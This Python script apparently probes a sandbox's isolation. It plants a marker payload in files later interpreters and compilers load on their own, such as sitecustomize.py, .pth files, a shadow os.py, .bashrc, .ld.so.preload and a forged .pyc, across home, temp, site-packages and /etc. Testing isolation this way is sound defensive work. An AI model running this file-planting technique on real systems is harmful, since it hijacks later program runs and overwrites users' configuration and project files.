# Leaves what a later Python, Node, Go, shell or compiler could take for its own.
import os
import site
import sys

BAD = "print('planted')\n"
PYTHON = ["sitecustomize.py", "usercustomize.py", "json.py", "os.py", "planted.pth", "encodings.py",
          "pyvenv.cfg", "python311._pth", "python3._pth"]
OTHERS = [".bashrc", ".profile", ".bash_profile", ".npmrc", ".noderc", "package.json", "index.js",
          "main.js", ".gitconfig", "go.mod", "go.work", ".config/go/env", "stdio.h", "bits/stdc++.h",
          "specs", ".ld.so.preload", "node_modules/fs/index.js", "main.py", "main.c", "main.go"]
user_site = site.getusersitepackages()
places = [os.getcwd(), "/tmp", "/dev/shm", os.path.expanduser("~"), user_site,
          os.path.dirname(user_site), os.path.dirname(sys.executable), site.getsitepackages()[0],
          "/usr/lib/python3", "/usr/local/lib", "/opt/kiln", "/opt/kiln/go-cache", "/etc"]
written = 0
for place in places:
    for name in PYTHON + OTHERS:
        path = os.path.join(place, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as out:
                out.write("import os; " + BAD if name.endswith(".pth") else BAD)
            written += 1
        except OSError:
            pass
for place in places:
    cache = os.path.join(place, "__pycache__")
    try:
        os.makedirs(cache, exist_ok=True)
        with open(os.path.join(cache, "json.cpython-311.pyc"), "wb") as out:
            out.write(b"planted")
    except OSError:
        pass
print("planted" if written > 50 else f"wrote {written}")
